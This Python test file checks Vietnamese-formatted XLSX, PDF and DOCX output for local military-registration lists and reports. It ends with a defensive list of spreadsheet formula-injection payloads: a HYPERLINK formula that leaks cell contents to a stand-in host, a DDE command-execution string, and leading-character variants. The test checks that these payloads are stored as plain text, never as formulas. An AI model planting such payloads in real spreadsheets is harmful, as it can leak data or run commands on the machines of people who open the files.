"""The three renderers give the same list, in Vietnamese, in files offices can open."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
from decimal import Decimal
from shutil import which as shutil_which

import docx
import openpyxl

from muster.documents.excel import render_xlsx
from muster.documents.pdf import render_pdf, render_report_pdf
from muster.documents.tables import (
    Column,
    Kind,
    OfficialReport,
    Section,
    TableDocument,
    format_cell,
    vietnamese_date_line,
)
from muster.documents.word import render_report_docx, render_table_docx

DOC = TableDocument(
    title="SỔ ĐĂNG KÝ CÔNG DÂN NAM ĐỦ 17 TUỔI",
    subtitle="Năm 2025",
    issuer=("UBND XÃ ĐỨC HỢP", "BAN CHỈ HUY QUÂN SỰ"),
    place_date=vietnamese_date_line("Đức Hợp", dt.date(2025, 1, 15)),
    columns=(
        Column("STT", Kind.INT, 5),
        Column("Họ và tên", Kind.TEXT, 24),
        Column("Ngày sinh", Kind.DATE, 12),
        Column("Dân số", Kind.INT, 10),
        Column("Tỷ lệ", Kind.PERCENT, 8),
    ),
    rows=(
        (1, "Nguyễn Văn Đức", dt.date(2008, 3, 5), 1234, Decimal("12.5")),
        (2, "Trần Thị Hằng", dt.date(2008, 11, 30), 56789, 3.25),
    ),
    totals=(None, "Tổng cộng", None, 58023, None),
    signature=("CHỈ HUY TRƯỞNG", "", "Nguyễn Văn Đức"),
)


def test_format_cell_is_vietnamese():
    assert format_cell(1234567, Kind.INT) == "1.234.567"
    assert format_cell(1234.5, Kind.DECIMAL) == "1.234,5"
    assert format_cell(3.25, Kind.PERCENT) == "3,3%"  # half up, not float rounding
    assert format_cell(Decimal("12.5"), Kind.PERCENT) == "12,5%"
    assert format_cell(dt.date(2025, 2, 13), Kind.DATE) == "13/02/2025"
    assert format_cell(None, Kind.INT) == ""


def test_xlsx_has_header_title_formats_and_print_area():
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(DOC)))
    ws = wb.active
    values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in values
    assert "SỔ ĐĂNG KÝ CÔNG DÂN NAM ĐỦ 17 TUỔI" in values
    assert "Nguyễn Văn Đức" in values and 56789 in values
    title_cell = next(c for row in ws.iter_rows() for c in row if c.value == DOC.title)
    assert any(title_cell.coordinate in rng for rng in ws.merged_cells.ranges)
    date_cell = next(
        c
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, dt.datetime) and c.value.date() == dt.date(2008, 3, 5)
    )
    assert date_cell.number_format == "dd/mm/yyyy"
    int_cell = next(c for row in ws.iter_rows() for c in row if c.value == 56789)
    assert int_cell.number_format == "#,##0"
    assert ws.print_area and ws.freeze_panes
    assert ws.column_dimensions["B"].width == 24


def test_pdf_embeds_fonts_and_reads_back_in_vietnamese(tmp_path):
    path = tmp_path / "list.pdf"
    path.write_bytes(render_pdf(DOC))
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert shutil_which("pdftotext"), "install poppler-utils (make test does)"
    for expected in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Nguyễn Văn Đức", "Trần Thị Hằng",
                     "05/03/2008", "56.789", "12,5%", "CHỈ HUY TRƯỞNG"):  # fmt: skip
        assert expected in text
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, check=True, text=True)
    lines = [ln for ln in fonts.stdout.splitlines()[2:] if ln.strip()]
    assert lines and all(" yes " in ln for ln in lines)  # every font embedded


def test_docx_table_and_report_open_with_python_docx(tmp_path):
    table_doc = docx.Document(io.BytesIO(render_table_docx(DOC)))
    cells = [c.text for t in table_doc.tables for row in t.rows for c in row.cells]
    assert "Nguyễn Văn Đức" in cells and "56.789" in cells
    report = OfficialReport(
        title="BÁO CÁO KẾT QUẢ TUYỂN QUÂN NĂM 2025",
        issuer=("ĐẢNG ỦY QUÂN SỰ HUYỆN KIM ĐỘNG",),
        number="Số: 12-BC/ĐUQS",
        place_date=vietnamese_date_line("Kim Động", dt.date(2025, 3, 1)),
        sections=(Section("I. KẾT QUẢ", ("Giao quân đạt 100% chỉ tiêu.",), DOC),),
        recipients=("Ban Thường vụ Huyện ủy", "Lưu VT"),
        signature=("T/M ĐẢNG ỦY", "BÍ THƯ", "", "Hoàng Văn Long"),
    )
    document = docx.Document(io.BytesIO(render_report_docx(report)))
    text = "\n".join(p.text for p in document.paragraphs)
    all_cells = "\n".join(c.text for t in document.tables for row in t.rows for c in row.cells)
    assert "BÁO CÁO KẾT QUẢ TUYỂN QUÂN NĂM 2025" in text
    assert "Giao quân đạt 100% chỉ tiêu." in text
    assert "Số: 12-BC/ĐUQS" in all_cells and "Nơi nhận:" in all_cells
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(render_report_pdf(report))
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    assert "BÁO CÁO KẾT QUẢ TUYỂN QUÂN NĂM 2025" in text and "Nơi nhận:" in text
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True).stdout
    assert all(" yes " in ln for ln in fonts.splitlines()[2:] if ln.strip())


#: Text a spreadsheet would run (OWASP CSV injection): each leading character of the rules,
#: their full-width forms, and the two classic payloads.
HOSTILE = (
    '=HYPERLINK("http://x/?"&C9,"y")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)


def test_xlsx_never_writes_a_formula_from_text():
    doc = TableDocument(
        title=HOSTILE[0],
        subtitle=HOSTILE[1],
        issuer=(HOSTILE[2],),
        place_date=HOSTILE[3],
        columns=[Column(h) for h in HOSTILE],
        rows=[HOSTILE, ["Nguyễn Văn A", *HOSTILE[1:]]],
        totals=HOSTILE,
        notes=HOSTILE,
        signature=HOSTILE,
    )
    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx(doc))).active
    written = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert {c.value for c in written} >= set(HOSTILE)  # every text kept exactly
    assert [c.coordinate for c in written if c.data_type != "s"] == []  # no formula
    for cell in written:
        # Excel's own mark of a typed leading apostrophe: shown as text, edited as text.
        assert cell.quotePrefix == (cell.value in HOSTILE), (cell.coordinate, cell.value)


def test_formula_like_follows_the_owasp_list():
    from muster.documents.excel import formula_like

    assert all(formula_like(text) for text in HOSTILE)
    assert not any(formula_like(t) for t in ("", "Nguyễn Văn A", "12/12", "— ", "Thôn 2", "'=1"))
